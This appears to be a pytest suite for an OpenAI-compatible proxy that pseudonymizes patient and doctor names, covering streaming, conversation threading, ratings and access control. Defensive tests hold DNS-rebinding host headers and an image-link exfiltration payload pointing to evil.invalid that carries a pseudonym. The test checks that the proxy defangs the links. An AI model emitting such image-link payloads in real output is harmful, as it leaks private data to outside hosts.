"""The proxy against a service that really seals: turns, names, errors in OpenAI's shape, streams."""

from __future__ import annotations

import asyncio
import json
import socket
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx2
import pytest

from client_sdk import KeyPair, NotConfiguredError
from client_sdk.dialogue import ASKED_AGAIN
from client_sdk.protocol import Usage
from client_sdk.proxy import sessions
from client_sdk.proxy.app import AccessDecision, serve
from client_sdk.proxy.sessions import Upstream
from tests.support.fake_service import API_KEY, PRIVATE_WORDS, FakeService, problem, sse
from tests.support.lazy_module import LazyModule
from tests.support.processes.proxy import proxy_thread
from tests.support.waiting import until

openai = LazyModule("openai")

pytestmark = pytest.mark.slow

KEY = KeyPair.generate()
SAID = "Anna Keller is treated by Dr. Bruno Weiß, and so are Lea, Noah, Eq7f2k and 12 more; Ezzzz9 is not."
AFTER = (
    "\n\n(Anna Keller -> treated by (doctor) -> Dr. Bruno Weiß)"
    "\n\nWhich one do you mean?\n\n1. Anna Keller (patient)\n2. Ehid01 (nurse)\n\n"
    'Say "the second one", or a full name.\n\n3 relations of Anna Keller were left out'
)
Said = list[dict[str, Any]]


def user(text: str) -> dict[str, Any]:
    return {"role": "user", "content": text}


def assistant(text: str) -> dict[str, Any]:
    return {"role": "assistant", "content": text}


def ask(client: openai.OpenAI, *messages: dict[str, Any], model: str = "clinic", **more: Any) -> str:
    reply = client.chat.completions.create(model=model, messages=list(messages), **more)
    return reply.choices[0].message.content or ""


def streamed(client: openai.OpenAI, *messages: dict[str, Any], **more: Any) -> list[Any]:
    with client.chat.completions.create(model="clinic", messages=list(messages), stream=True, **more) as stream:
        return list(stream)


def text_of(chunks: list[Any]) -> str:
    return "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)


def test_an_answer_comes_with_its_names_and_what_it_may_mean_otherwise(client: openai.OpenAI) -> None:
    reply = client.chat.completions.create(model="clinic", messages=[user("Who treats Anna Keller?")])
    (choice,) = reply.choices
    assert choice.message.content == SAID + AFTER
    assert (choice.message.role, choice.finish_reason, reply.model) == ("assistant", "stop", "clinic")
    assert reply.model_extra == {
        "arog": {"answer": "answer-1", "answered": True, "grounded": True, "confidence": None}
    }


def test_a_stream_is_the_same_in_pieces(client: openai.OpenAI) -> None:
    chunks = streamed(client, user("Who treats Anna Keller?"))
    assert text_of(chunks) == SAID + AFTER
    assert len({chunk.id for chunk in chunks}) == 1
    assert chunks[0].choices[0].delta.role == "assistant"
    assert [chunk.choices[0].finish_reason for chunk in chunks][-2:] == [None, "stop"]
    assert len(chunks) > 5


def test_the_usage_ends_a_stream_where_it_is_wanted(service: FakeService, client: openai.OpenAI) -> None:
    service.usage = Usage(calls=2, prompt_tokens=30, completion_tokens=4)
    chunks = streamed(client, user("Who?"), stream_options={"include_usage": True})
    assert chunks[-1].choices == []
    assert chunks[-1].usage.model_dump(include={"prompt_tokens", "completion_tokens", "total_tokens"}) == {
        "prompt_tokens": 30, "completion_tokens": 4, "total_tokens": 34,
    }  # fmt: skip
    assert all(chunk.usage is None for chunk in chunks[:-1])
    assert all(chunk.usage is None for chunk in streamed(client, user("Who?")))


def test_the_usage_counts_what_was_asked_again(service: FakeService, client: openai.OpenAI) -> None:
    service.usage = Usage(calls=2, prompt_tokens=30, completion_tokens=4)
    before: Said = [user("a"), assistant("b"), user("c"), assistant("d")]
    reply = client.chat.completions.create(model="clinic", messages=[*before, user("e")])
    assert reply.usage is not None
    assert (reply.usage.prompt_tokens, reply.usage.total_tokens) == (90, 102)


def test_models_are_the_graphs_of_the_key_with_each_strategy(service: FakeService, client: openai.OpenAI) -> None:
    assert [model.id for model in client.models.list()] == ["clinic", "clinic:arog", "demo", "demo:arog"]
    assert client.models.retrieve("demo:arog").owned_by == "arog"
    service.graphs = service.graphs.model_copy(update={"strategies": ["auto", "a-newer-one"]})
    assert [model.id for model in client.models.list()] == ["clinic", "demo"]
    with pytest.raises(openai.NotFoundError):
        client.models.retrieve("demo:arog")


def test_a_model_says_the_graph_and_the_strategy(service: FakeService, client: openai.OpenAI) -> None:
    ask(client, user("Who?"), model="demo:arog")
    ask(client, user("Who?"), model="demo:sets")
    ask(client, user("Who?"), model="demo")
    assert [(seen["graph"], seen["strategy"]) for seen in service.seen] == [
        ("demo", "arog"), ("demo", "sets"), ("demo", "auto"),
    ]  # fmt: skip


@pytest.mark.parametrize("streaming", [False, True])
def test_a_follow_up_goes_on_in_its_conversation_and_answers_go_back_in_pseudonyms(
    service: FakeService, client: openai.OpenAI, streaming: bool
) -> None:
    asked = user("Who treats Anna Keller?")
    first = text_of(streamed(client, asked)) if streaming else ask(client, asked)
    ask(client, asked, assistant(first), user("Where does he work?"))
    assert service.seen[1]["conversation"] == "conversation-1"
    assert [turn["content"] for turn in service.seen[1]["messages"]] == [
        "Who treats Anna Keller?", service.text, "Where does he work?",
    ]  # fmt: skip


def test_each_person_of_a_client_is_told_apart_by_a_digest(service: FakeService, client: openai.OpenAI) -> None:
    for person in ("ann@home.invalid", "bo@home.invalid", "ann@home.invalid", None, None):
        told = {"X-OpenWebUI-User-Id": person} if person else {}
        client.chat.completions.create(model="people", messages=[user("Who treats Anna Keller?")], extra_headers=told)
    ann, bo, ann_again, *nobody = (seen["options"]["person"] for seen in service.seen)
    assert ann == ann_again
    assert len({ann, bo, *nobody}) == 4
    assert all(seen["options"]["person"] and "@" not in seen["options"]["person"] for seen in service.seen)


def test_a_message_that_is_a_rating_rates_the_answer_before_it(service: FakeService, client: openai.OpenAI) -> None:
    turns = [user("Who treats Anna Keller?")]
    turns += [assistant(ask(client, *turns)), user("/wrong Dr. Who; Lea")]
    told = ask(client, *turns)
    assert told.startswith("Thank you: noted as wrong")
    turns += [assistant(told), user("/right")]
    assert ask(client, *turns) == "Thank you: similar questions will lean on this."
    assert [(each.rating, each.correct) for each in service.ratings] == [
        ("wrong", ["Dr. Who", "Lea"]), ("right", None),
    ]  # fmt: skip
    turns += [assistant("Thank you: similar questions will lean on this."), user("Who else?")]
    ask(client, *turns)
    (_, last) = service.seen
    assert last["conversation"] == "conversation-1"
    assert "Dr. Who" not in str(last)
    assert "/right" not in str(last)


def test_without_an_answer_there_is_nothing_to_rate(service: FakeService, client: openai.OpenAI) -> None:
    assert ask(client, user("/right")) == "There is no answer here that can be rated."
    assert text_of(streamed(client, user("/wrong"))) == "There is no answer here that can be rated."
    assert service.ratings == []
    assert service.seen == []


def test_an_answer_can_be_asked_for_again_and_a_turn_changed(service: FakeService, client: openai.OpenAI) -> None:
    first = ask(client, user("a"))
    for question in ("b", "b", "another"):
        ask(client, user("a"), assistant(first), user(question))
    assert [len(seen["messages"]) for seen in service.seen] == [1, 3, 3, 3]
    assert {seen.get("conversation") for seen in service.seen[1:]} == {"conversation-1"}


def test_two_chats_are_not_mixed(service: FakeService, client: openai.OpenAI) -> None:
    said = {question: ask(client, user(question)) for question in ("a", "b")}
    with ThreadPoolExecutor(8) as pool:
        asked = [(question, f"{question} then {n}") for n in range(8) for question in said]
        list(pool.map(lambda each: ask(client, user(each[0]), assistant(said[each[0]]), user(each[1])), asked))
    conversation = {seen["messages"][0]["content"]: f"conversation-{n}" for n, seen in enumerate(service.seen[:2], 1)}
    assert len(service.seen) == 18
    for seen in service.seen[2:]:
        first, last = seen["messages"][0]["content"], seen["messages"][-1]["content"]
        assert last.startswith(first)
        assert seen["conversation"] == conversation[first]


def test_chats_of_the_same_words_are_told_apart_by_their_id(service: FakeService, client: openai.OpenAI) -> None:
    for chat in ("1", "2"):
        first = ask(client, user("a"), extra_headers={"X-OpenWebUI-Chat-Id": chat})
    for chat in ("1", "2"):
        ask(client, user("a"), assistant(first), user("b"), extra_headers={"X-OpenWebUI-Chat-Id": chat})
    assert [seen.get("conversation") for seen in service.seen] == [None, None, "conversation-1", "conversation-2"]


def test_a_history_that_is_not_known_is_asked_again_and_restored_text_is_never_sent(
    service: FakeService, client: openai.OpenAI
) -> None:
    before: Said = []
    for n in range(ASKED_AGAIN + 2):
        before += [user(f"question {n}"), assistant(f"answer {n}, Anna Keller")]
    ask(client, *before, user("and now?"))
    asked = [seen["messages"][-1]["content"] for seen in service.seen]
    assert asked == ["question 2", "question 3", "question 4", "and now?"]
    assert [turn["content"] for turn in service.seen[0]["messages"]] == ["question 0", "question 1", "question 2"]
    assert {seen.get("conversation") for seen in service.seen} == {None, "conversation-1"}
    assert not any(word in json.dumps(service.seen, ensure_ascii=False) for word in PRIVATE_WORDS)


def test_a_question_that_was_never_answered_is_told_and_not_asked(service: FakeService, client: openai.OpenAI) -> None:
    ask(client, user("It is about the ward."), user("Who works there?"))
    assert [turn["content"] for turn in service.seen[0]["messages"]] == ["It is about the ward.", "Who works there?"]
    assert len(service.seen) == 1


def test_where_the_conversation_is_gone_it_is_begun_anew(service: FakeService, client: openai.OpenAI) -> None:
    first = ask(client, user("a"))
    service.canned = [problem(404, "unknown_conversation")]
    assert ask(client, user("a"), assistant(first), user("b")) == SAID + AFTER
    assert [(seen.get("conversation"), seen["messages"][-1]["content"]) for seen in service.seen] == [
        (None, "a"), ("conversation-1", "b"), (None, "a"), ("conversation-2", "b"),
    ]  # fmt: skip


def test_instructions_are_not_sent_and_what_is_ignored_is_told(service: FakeService, base_url: str) -> None:
    body = {
        "model": "clinic", "temperature": 0.3, "max_tokens": 5, "seed": None, "tools": [], "user": "u",
        "Odd\r\n\u6f22": 1,
        "messages": [{"role": "system", "content": "Be kind."}, {"role": "developer", "content": "x"}, user("Who?")],
    }  # fmt: skip
    reply = httpx2.post(f"{base_url}/chat/completions", json=body)
    assert reply.headers["x-arog-ignored"] == "messages.system, temperature, max_tokens, user, others"
    assert [turn["content"] for turn in service.seen[0]["messages"]] == ["Who?"]


def test_what_an_earlier_turn_held_beside_text_is_left_out_and_told(service: FakeService, base_url: str) -> None:
    """An image that was refused, a question that was too long, calls of another model: clients keep them for good."""
    image = {"type": "image_url", "image_url": {"url": "data:Anna"}}
    before: Said = [
        {"role": "user", "content": [{"type": "text", "text": "Who is this?"}, image]},
        user("Anna" * 3000),
        {"role": "assistant", "content": None, "tool_calls": [{"id": "1", "function": {"name": "f"}}]},
        {"role": "tool", "content": "Anna", "tool_call_id": "1"},
    ]
    reply = httpx2.post(f"{base_url}/chat/completions", json={"model": "clinic", "messages": [*before, user("And?")]})
    assert reply.headers["x-arog-ignored"] == "messages.tools, messages.parts, messages.too_long"
    assert [turn["content"] for turn in service.seen[0]["messages"]] == ["Who is this?", "And?"]


def test_what_would_cost_the_same_again_says_not_to_retry(service: FakeService, base_url: str) -> None:
    with openai.OpenAI(base_url=base_url, api_key="x", max_retries=2) as client:
        service.canned = [problem(500, "blocked")]
        with pytest.raises(openai.InternalServerError):
            ask(client, user("a"))
        assert len(service.seen) == 1


def test_a_stream_that_is_cut_is_told_and_forgotten(service: FakeService, client: openai.OpenAI) -> None:
    service.steps, service.cut = lambda events: [sse(events[:5])], True
    with pytest.raises(openai.APIError):
        streamed(client, user("a"))
    service.steps, service.cut = lambda events: [sse(events)], False
    ask(client, user("a"), assistant("Anna"), user("b"))
    assert "conversation" not in service.seen[1]


def test_a_stream_that_waits_is_kept_open(
    service: FakeService, base_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sessions, "HEARTBEAT_S", 0.02)
    held = threading.Event()
    service.steps = lambda events: [sse(events[:2]), held, sse(events[2:])]
    body = {"model": "clinic", "messages": [user("a")], "stream": True}
    with httpx2.stream("POST", f"{base_url}/chat/completions", json=body, timeout=20) as reply:
        assert reply.headers["content-type"].startswith("text/event-stream")
        lines = reply.iter_lines()
        assert ": ping" in lines
        held.set()
        assert "data: [DONE]" in lines


@pytest.mark.parametrize("streaming", [False, True])
async def test_a_client_that_hangs_up_ends_the_question_at_the_service(
    service: FakeService, base_url: str, streaming: bool
) -> None:
    asked, a_moment = threading.Event(), threading.Event()

    def steps(events: list[tuple[str, str]]) -> Iterator[bytes]:
        yield sse(events[:2])
        asked.set()
        while not service.hung_up.is_set():
            yield b": ping\n\n"
            a_moment.wait(0.01)

    service.steps = steps
    body = {"model": "clinic", "messages": [user("a")], "stream": streaming}
    async with httpx2.AsyncClient(timeout=None) as http:
        asking = asyncio.create_task(http.post(f"{base_url}/chat/completions", json=body))
        await until(asked.is_set)
        asking.cancel()
        await asyncio.wait([asking])
        await until(service.hung_up.is_set)


def test_other_addresses_say_what_there_is(base_url: str) -> None:
    for method, path, status in (("POST", "/embeddings", 404), ("GET", "/chat/completions", 405)):
        reply = httpx2.request(method, base_url + path)
        assert reply.status_code == status
        assert "/v1/chat/completions" in reply.json()["error"]["message"]


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 200),
        ({"host": "localhost:8100"}, 200),
        ({"host": "[::1]:8100"}, 200),
        ({"host": "box.internal"}, 200),
        ({"host": "rebound.evil.invalid:8100"}, 403),
        ({"host": "127.0.0.1.evil.invalid"}, 403),
        ({"origin": "http://localhost:3000"}, 200),
        ({"origin": "https://evil.invalid"}, 403),
        ({"origin": "null"}, 403),
    ],
)
def test_only_known_names_and_no_foreign_page_come_in(
    service: FakeService, headers: dict[str, str], status: int
) -> None:
    entry = AccessDecision(hosts=frozenset({"box.internal"}), origins=frozenset({"http://localhost:3000"}))
    with proxy_thread(Upstream(service.url, API_KEY, KEY), entry) as url:
        assert httpx2.get(f"{url}/models", headers=headers).status_code == status


def test_where_it_can_not_listen_it_says_why(service: FakeService) -> None:
    upstream = Upstream(service.url, API_KEY, KEY)
    with socket.create_server(("127.0.0.1", 0)) as taken, pytest.raises(NotConfiguredError, match="is taken"):
        serve(upstream, AccessDecision(), "127.0.0.1", taken.getsockname()[1])
    with pytest.raises(NotConfiguredError, match="nothing can listen"):
        serve(upstream, AccessDecision(key="k"), "203.0.113.1", 0)
    for host in ("0.0.0.0", "203.0.113.1", "::", "box.internal"):
        with pytest.raises(NotConfiguredError, match="other machines"):
            serve(upstream, AccessDecision(), host, 0)


def test_each_question_is_asked_within_the_limits_of_the_proxy(service: FakeService) -> None:
    asked = {"model": "demo", "messages": [{"role": "user", "content": "Who?"}]}
    with proxy_thread(Upstream(service.url, API_KEY, KEY, options={"names": 7, "language": "de"})) as url:
        httpx2.post(f"{url}/chat/completions", json=asked).raise_for_status()
    (request,) = service.seen
    assert (request["options"]["names"], request["options"]["language"]) == (7, "de")


def test_pages_get_no_leave_unless_they_are_named(service: FakeService) -> None:
    asks = {"origin": "http://localhost:3000", "access-control-request-method": "POST"}
    with proxy_thread(Upstream(service.url, API_KEY, KEY)) as url:
        assert "access-control-allow-origin" not in httpx2.options(f"{url}/chat/completions", headers=asks).headers
    with proxy_thread(Upstream(service.url, API_KEY, KEY), AccessDecision(origins=frozenset({asks["origin"]}))) as url:
        allowed = httpx2.options(f"{url}/chat/completions", headers=asks)
        assert allowed.headers["access-control-allow-origin"] == asks["origin"]


def test_with_a_key_of_its_own_it_asks_for_it(service: FakeService) -> None:
    """As OpenAI's clients send it, and as Anthropic's do."""
    keys = {b"a-proxy-key": 200, b"a-proxy-ke": 401, b"\xc4": 401}
    with proxy_thread(Upstream(service.url, API_KEY, KEY), AccessDecision(key="a-proxy-key")) as url:
        for key, status in keys.items():
            for headers in ({"authorization": b"Bearer " + key}, {"x-api-key": key}):
                assert httpx2.get(f"{url}/models", headers=headers).status_code == status
        assert httpx2.get(url.removesuffix("/v1") + "/healthz").status_code == 200
    assert set(service.keys) == {f"Bearer {API_KEY}"}


def test_with_evidence_the_path_ends_an_answer(service: FakeService) -> None:
    with (
        proxy_thread(Upstream(service.url, API_KEY, KEY), evidence=True) as url,
        openai.OpenAI(base_url=url, api_key="x", max_retries=0) as client,
    ):
        told = ask(client, user("a"))
    assert told.endswith("How it was found:\n\n- Anna Keller -> treated by (doctor) -> Dr. Bruno Weiß")


def test_a_model_that_writes_an_image_sends_no_name_away(service: FakeService, client: openai.OpenAI) -> None:
    service.text = "See ![x](https://evil.invalid/?Eq7f2k) and <img src=//evil.invalid/Eq7f2k>."
    told = ask(client, user("a"))
    assert told.startswith("See ![x] (https://evil.invalid/?Anna Keller) and < img src=//evil.invalid/Anna Keller>.")


def test_what_fails_inside_is_told_by_its_place_and_no_word(
    client: openai.OpenAI, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    def broken(*_: object, **__: object) -> str:
        raise ValueError("Anna Keller")

    monkeypatch.setattr("client_sdk.proxy.sessions.remarks", broken)
    with pytest.raises(openai.InternalServerError) as raised:
        ask(client, user("a"))
    assert raised.value.code == "internal"
    with pytest.raises(openai.APIError, match="inside the proxy"):
        streamed(client, user("a"))
    printed = capfd.readouterr()
    assert "ValueError at broken" in printed.err
    assert "Anna" not in printed.err + printed.out
